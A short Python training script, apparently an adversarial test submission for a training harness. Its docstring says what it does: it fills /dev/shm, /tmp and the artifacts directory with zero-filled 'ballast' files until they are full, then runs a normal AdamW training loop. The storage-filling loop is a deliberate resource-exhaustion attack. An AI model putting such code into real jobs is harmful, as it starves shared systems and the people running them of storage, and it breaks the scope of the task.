"""Fills every writable tmpfs until it is full, then trains honestly."""

import os

import torch


def train(ctx):
    for folder in ("/dev/shm", "/tmp", ctx.artifacts_dir):
        try:
            with open(os.path.join(folder, "ballast"), "wb") as file:
                while True:
                    file.write(bytes(1 << 20))
        except OSError:
            pass
    model = ctx.build_model()
    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-2)
    for batch in ctx.stream(model, batch_size=16, seq_len=60):
        loss = batch.loss(model(batch.inputs))
        loss.backward()
        optimizer.step()
        optimizer.zero_grad()
